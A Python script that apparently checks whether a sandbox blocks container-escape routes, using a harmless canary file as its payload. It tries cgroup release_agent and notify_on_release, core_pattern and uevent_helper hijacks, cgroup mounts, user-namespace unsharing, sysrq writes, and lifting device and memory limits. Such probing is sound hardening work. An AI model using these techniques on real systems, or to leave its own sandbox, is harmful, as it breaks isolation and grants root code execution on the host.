import ctypes
import glob
import os

AGENT = "#!/bin/sh\necho changed > /root/grader-hostile-canary\n"
libc = ctypes.CDLL(None, use_errno=True)


def mounts(kind, options):
    os.makedirs("/tmp/group", exist_ok=True)
    return libc.mount(b"none", b"/tmp/group", kind, 0, options) == 0


def writes(name, text):
    try:
        with open(name, "w") as file:
            file.write(text)
    except OSError:
        return False
    return True


def makes(name):
    try:
        os.mkdir(name)
    except OSError:
        return False
    return True


with open("/agent", "w") as agent:
    agent.write(AGENT)
os.chmod("/agent", 0o755)
ways = {
    "a mount of memory": mounts(b"cgroup", b"memory"),
    "a mount of rdma": mounts(b"cgroup", b"rdma"),
    "a mount of version 2": mounts(b"cgroup2", None),
    "a new user namespace": libc.unshare(0x10000000) == 0,
    "core_pattern": writes("/proc/sys/kernel/core_pattern", "|/agent"),
    "uevent_helper": writes("/sys/kernel/uevent_helper", "/agent"),
    "a key of the machine": writes("/proc/sysrq-trigger", "h"),
}
# With version 1 the folder above the controllers is memory of the container's own.
groups = [os.path.dirname(file) for file in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)]
assert groups, "there is no control group to attack"
for folder in groups:
    ways[f"a group in {folder}"] = makes(f"{folder}/mine")
    for name, text in (
        ("release_agent", "/agent"),
        ("notify_on_release", "1"),
        ("pids.max", "max"),
        ("memory.max", "max"),
        ("memory.limit_in_bytes", "-1"),
        ("devices.allow", "a"),
    ):
        if os.path.exists(f"{folder}/{name}"):
            ways[f"{folder}/{name}"] = writes(f"{folder}/{name}", text)
through = [name for name, done in ways.items() if done]
print("was let through: " + ", ".join(through) if through else "nothing was let through", len(ways))
